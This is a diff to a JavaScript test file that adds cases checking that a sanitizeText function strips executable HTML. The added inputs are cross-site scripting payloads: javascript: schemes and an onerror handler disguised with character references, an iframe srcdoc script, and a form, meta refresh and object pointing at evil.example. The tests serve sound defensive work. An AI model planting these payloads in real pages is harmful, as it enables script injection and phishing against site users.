@@ -66,6 +66,15 @@ describe('sanitizeText removes what can run code', () => {
     ['a handler after a slash', '<svg/onload=x()>', '<svg/x()>'],
     ['a scheme reassembled from fragments', 'javajavascript:script:alert(1)', 'alert(1)'],
     ['a script block reassembled from fragments', '<scr<script></script>ipt>x</script>y', 'xy'],
+    ['a scheme hidden by a hex reference', 'a <a href="jav&#x61;script:alert(1)">x</a> b', 'a x</a> b'],
+    ['a scheme hidden by a named tab', '<a href="java&Tab;script:alert(1)">x</a>', 'x</a>'],
+    ['a scheme hidden by zero-padded decimals', '<a href="&#0000106avascript:alert(1)">x</a>', 'x</a>'],
+    ['a colon hidden by a named reference', '<a href="javascript&colon;alert(1)">x</a>', 'x</a>'],
+    ['a handler hidden by a reference', '<img src=x &#111;nerror=alert(1)>', ''],
+    ['an iframe running a document of its own', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', '</iframe>'],
+    ['a form posting elsewhere', '<form action=https://evil.example><button>Verify</button></form>', '<button>Verify</button></form>'],
+    ['a refresh to elsewhere', '<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
+    ['an object', 'see <object data="https://evil.example/x.swf"></object>', 'see </object>'],
   ])('%s', (_construct, text, expected) => {
     expect(sanitizeText(text)).toBe(expected);
   });
